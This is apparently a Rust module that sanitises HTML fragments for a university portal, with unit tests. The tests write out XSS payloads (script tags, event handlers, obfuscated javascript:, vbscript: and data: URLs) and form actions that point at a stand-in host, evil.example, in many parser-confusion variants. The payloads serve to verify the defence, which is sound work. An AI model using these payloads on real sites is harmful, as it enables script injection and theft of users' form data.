//! Channel HTML sanitising: what a channel returns never reaches the page executable.
//!
//! Allowed: ammonia's conservative set of formatting and structure tags, `class` on any tag,
//! `http`, `https`, `mailto` and `tel` links (relative URLs too), and **search forms**: a
//! `<form>` is always `method="get"` to a path of the portal (so it changes nothing and
//! needs no CSRF token), with `text`, `search`, `hidden` inputs (autofill hints `on`/`off`
//! only), labels and submit buttons.
//! Removed: scripts, styles, event handlers, `style` attributes, frames, other form
//! controls (passwords, files…), `javascript:`/`data:` URLs, comments. Links get
//! `rel="noopener noreferrer"`.
//!
//! Every URL attribute is judged as the browser will read it: parsed by the WHATWG URL
//! standard (the `url` crate), which strips leading and trailing C0 controls and spaces,
//! removes tab, LF and CR anywhere and reads `\` as `/` in http(s) URLs, relative to a
//! stand-in for the portal's address ([`BASE`]). A form's action must land on the portal's
//! origin and is written back as the normalised path and query; other URLs keep the scheme
//! policy above, are written back without what the browser would strip, and are dropped
//! when they do not parse.

use std::collections::HashSet;
use std::sync::LazyLock;
use url::Url;

/// What relative URLs are resolved against when judging them: a stand-in for the portal's
/// own address. Only its origin matters: a form action is accepted when it resolves there.
pub const BASE: &str = "https://portal.invalid/";

/// The portal may be served over http or https, and `http:x` is relative on an http page but
/// another host on an https one: a form action must stay on the portal under both.
static BASE_URLS: LazyLock<[Url; 2]> = LazyLock::new(|| {
    let https = Url::parse(BASE).expect("the base URL parses");
    let mut http = https.clone();
    http.set_scheme("http").expect("http is a scheme");
    [https, http]
});

/// Attributes whose value a browser reads as a URL, whether or not the policy allows them
/// today (an attribute added to the allow-lists later is then judged too).
fn is_url_attribute(element: &str, attribute: &str) -> bool {
    matches!(
        attribute,
        "href"
            | "src"
            | "cite"
            | "action"
            | "formaction"
            | "xlink:href"
            | "poster"
            | "background"
            | "longdesc"
            | "dynsrc"
            | "lowsrc"
            | "codebase"
            | "manifest"
            | "icon"
    ) || (element == "object" && attribute == "data")
}

/// A URL attribute's new value, or `None` to drop it.
fn judge_url(element: &str, attribute: &str, value: &str) -> Option<String> {
    if (element, attribute) == ("form", "action") {
        return Some(portal_path(value).unwrap_or_else(|| "/".into()));
    }
    let url = Url::options().base_url(Some(&BASE_URLS[0])).parse(value).ok()?;
    matches!(url.scheme(), "http" | "https" | "mailto" | "tel").then(|| browser_preprocessed(value))
}

/// `value` as a path of the portal (path and query, no fragment), if it resolves on the
/// portal's origin, to the same path, whether the portal is served over https or http. A
/// path starting with `//` would be read back as another host: refused.
fn portal_path(value: &str) -> Option<String> {
    let mut path = None;
    for base in BASE_URLS.iter() {
        let url = Url::options().base_url(Some(base)).parse(value).ok()?;
        if url.origin() != base.origin() || url.path().starts_with("//") {
            return None;
        }
        let here = match url.query() {
            Some(query) => format!("{}?{query}", url.path()),
            None => url.path().to_string(),
        };
        if path.as_ref().is_some_and(|p| *p != here) {
            return None;
        }
        path = Some(here);
    }
    path
}

/// The value as the URL parser sees it: without leading and trailing C0 controls and
/// spaces, and without tab, LF and CR (same meaning, nothing left to hide behind).
fn browser_preprocessed(value: &str) -> String {
    value
        .trim_matches(|c: char| c <= ' ')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect()
}

static CLEANER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let mut b = ammonia::Builder::default();
    b.add_generic_attributes(["class", "lang", "title", "aria-label", "aria-hidden", "role"])
        .add_tags([
            "time",
            "figure",
            "figcaption",
            "section",
            "article",
            "header",
            "footer",
            "nav",
        ])
        .add_tags(["form", "input", "label", "button"])
        .add_tag_attributes("time", ["datetime"])
        .add_tag_attributes("a", ["hreflang"])
        .add_tag_attributes("form", ["action", "method"])
        .add_tag_attributes(
            "input",
            [
                "type",
                "name",
                "value",
                "placeholder",
                "id",
                "minlength",
                "maxlength",
                "required",
                "autocomplete",
            ],
        )
        .add_tag_attributes("label", ["for"])
        .add_tag_attributes("button", ["type"])
        // A cell's column name, shown beside it when the theme reflows a table on a phone
        // (`table.reflow`; plain text, drawn by CSS `attr()`).
        .add_tag_attributes("td", ["data-label"])
        .attribute_filter(|element, attribute, value| match (element, attribute) {
            ("form", "method") => Some("get".into()),
            (element, attribute) if is_url_attribute(element, attribute) => {
                judge_url(element, attribute, value).map(Into::into)
            }
            // Autofill hints could have the browser fill in saved secrets (passwords, cards)
            // that the form then sends along: only on and off.
            ("input", "autocomplete") => {
                let value = value.trim().to_ascii_lowercase();
                matches!(value.as_str(), "on" | "off").then(|| value.into())
            }
            ("input", "type") => Some(match value.to_ascii_lowercase().as_str() {
                "search" => "search".into(),
                "hidden" => "hidden".into(),
                _ => "text".into(),
            }),
            ("button", "type") => Some("submit".into()),
            _ => Some(value.into()),
        })
        .url_schemes(HashSet::from(["http", "https", "mailto", "tel"]))
        .link_rel(Some("noopener noreferrer"))
        .strip_comments(true);
    b
});

/// Sanitise a channel's HTML fragment.
pub fn sanitize(html: &str) -> String {
    CLEANER.clean(html).to_string()
}

#[cfg(test)]
mod tests {
    use super::sanitize;

    #[test]
    fn scripts_handlers_and_javascript_urls_are_removed() {
        let out = sanitize(
            r#"<p class="x">hi</p><script>alert(1)</script><img src="x" onerror="alert(1)">
               <a href="javascript:alert(1)">a</a><a href="JaVaScRiPt:alert(1)">b</a>
               <div style="x">s</div><iframe src="https://e/"></iframe><svg onload="alert(1)"></svg>"#,
        );
        let lower = out.to_ascii_lowercase();
        for bad in [
            "<script",
            "onerror",
            "javascript:",
            "style=",
            "<iframe",
            "onload",
            "<svg",
        ] {
            assert!(!lower.contains(bad), "{bad} survived in {out}");
        }
        assert!(out.contains(r#"<p class="x">hi</p>"#));
    }

    #[test]
    fn a_cell_keeps_its_column_name_for_the_phone_layout_and_nothing_else_does() {
        let out = sanitize(
            r#"<table class="reflow"><tbody><tr><td data-label="ECTS" onclick="x()">6</td></tr></tbody></table><p data-label="no">p</p>"#,
        );
        assert!(out.contains(r#"<td data-label="ECTS">6</td>"#), "{out}");
        assert!(!out.contains("onclick") && !out.contains(r#"data-label="no""#), "{out}");
    }

    #[test]
    fn search_forms_stay_local_get_forms_without_secrets() {
        let out = sanitize(
            r#"<form method="post" action="https://evil.example/steal"><label for="q">Nom</label>
               <input id="q" type="password" name="annuaire.q"><input type="hidden" name="tab" value="home">
               <input type="file" name="f"><button type="reset" onclick="x()">Go</button></form>
               <form action="/?tab=home"><input type="search" name="a.q"></form>"#,
        );
        assert!(out.contains(r#"<form method="get" action="/">"#), "{out}");
        assert!(out.contains(r#"<input id="q" type="text" name="annuaire.q">"#), "{out}");
        assert!(
            out.contains(r#"<input type="hidden" name="tab" value="home">"#),
            "{out}"
        );
        assert!(out.contains(r#"<button type="submit">Go</button>"#), "{out}");
        assert!(out.contains(r#"<form action="/?tab=home">"#), "{out}");
        for bad in ["password", "evil.example", "onclick", "post"] {
            assert!(!out.contains(bad), "{bad} survived: {out}");
        }
    }

    /// Finding 6 of issue 10: a browser removes ASCII tab, LF and CR from a URL and strips
    /// leading and trailing C0 controls and spaces before parsing it (WHATWG URL), and reads
    /// `\` as `/` in http(s) URLs, so each of these actions posts to another host.
    #[test]
    fn form_actions_are_judged_as_the_browser_parses_them() {
        for action in [
            "/&#9;/evil.example/x",
            "/&#10;/evil.example/x",
            "/&#13;/evil.example/x",
            "/\t/evil.example/x",
            "/\n/evil.example/x",
            "/\r/evil.example/x",
            "&#9;//evil.example/x",
            "\t//evil.example/x",
            " //evil.example/x",
            "&#1;//evil.example/x",
            "/\\evil.example/x",
            "\\/evil.example/x",
            "\\\\evil.example/x",
            "https://evil.example/x",
            "https:evil.example/x",
            "http:evil.example/x",
            "https:/evil.example/x",
            "http:/evil.example/x",
            "/.//evil.example/x",
            "/a/..//evil.example/x",
            "javascript:alert(1)",
            "java&#9;script:alert(1)",
            "/&#x09;/evil.example/x",
            "/&Tab;/evil.example/x",
            "/&NewLine;/evil.example/x",
        ] {
            let out = sanitize(&format!(r#"<form action="{action}"><input name="q"></form>"#));
            // Either sent to the portal's root, or dropped (the form then goes to the page).
            let home = out.starts_with(r#"<form action="/">"#) || out.starts_with("<form>");
            assert!(
                home && !out.contains("evil") && !out.contains("script"),
                "{action:?} gave {out}"
            );
        }
    }

    #[test]
    fn portal_form_actions_are_written_back_normalised() {
        for (action, expected) in [
            ("/annuaire?tab=home", "/annuaire?tab=home"),
            ("/a/../b", "/b"),
            ("/a&#9;b", "/ab"),
            ("  /search  ", "/search"),
            ("search", "/search"),
            ("?tab=x", "/?tab=x"),
            ("/x#frag", "/x"),
            ("", "/"),
        ] {
            let out = sanitize(&format!(r#"<form action="{action}"></form>"#));
            assert_eq!(out, format!(r#"<form action="{expected}"></form>"#), "{action:?}");
        }
    }

    #[test]
    fn url_attributes_are_judged_as_the_browser_parses_them() {
        for bad in [
            r#"<a href="java&#9;script:alert(1)">x</a>"#,
            r#"<a href=" &#1;javascript:alert(1)">x</a>"#,
            r#"<a href="jav&#x0A;ascript:alert(1)">x</a>"#,
            r#"<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>"#,
            r#"<a href="vbscript:msgbox(1)">x</a>"#,
            r#"<a href="http://[bad">x</a>"#,
            r#"<img src="javascript:alert(1)">"#,
            r#"<blockquote cite="javascript:alert(1)">q</blockquote>"#,
            r#"<q cite="data:text/html,x">q</q>"#,
            r#"<del cite="vbscript:x">d</del>"#,
            r#"<ins cite="jav&#9;ascript:x">i</ins>"#,
        ] {
            let out = sanitize(bad).to_ascii_lowercase();
            for word in ["script:", "data:", "[bad", "cite="] {
                assert!(!out.contains(word), "{bad} gave {out}");
            }
        }
        // What the browser removes anyway is not written back either.
        assert_eq!(
            sanitize("<a href=\"ht&#9;tps://univ.fr/&#10;x\">u</a>"),
            r#"<a href="https://univ.fr/x" rel="noopener noreferrer">u</a>"#
        );
        assert_eq!(
            sanitize(r#"<blockquote cite="https://univ.fr/q">q</blockquote><img src="/logo.png" alt="">"#),
            r#"<blockquote cite="https://univ.fr/q">q</blockquote><img src="/logo.png" alt="">"#
        );
        for kept in [
            "mailto:scol@univ.fr",
            "tel:+33100000000",
            "/?tab=x",
            "page.html",
            "#top",
            "//univ.fr/",
        ] {
            let out = sanitize(&format!(r#"<a href="{kept}">k</a>"#));
            assert!(out.contains(&format!(r#"href="{kept}""#)), "{kept} gave {out}");
        }
    }

    #[test]
    fn safe_links_keep_working_and_get_noopener() {
        let out = sanitize(r#"<a href="https://univ.fr/">u</a>"#);
        assert_eq!(out, r#"<a href="https://univ.fr/" rel="noopener noreferrer">u</a>"#);
    }
}
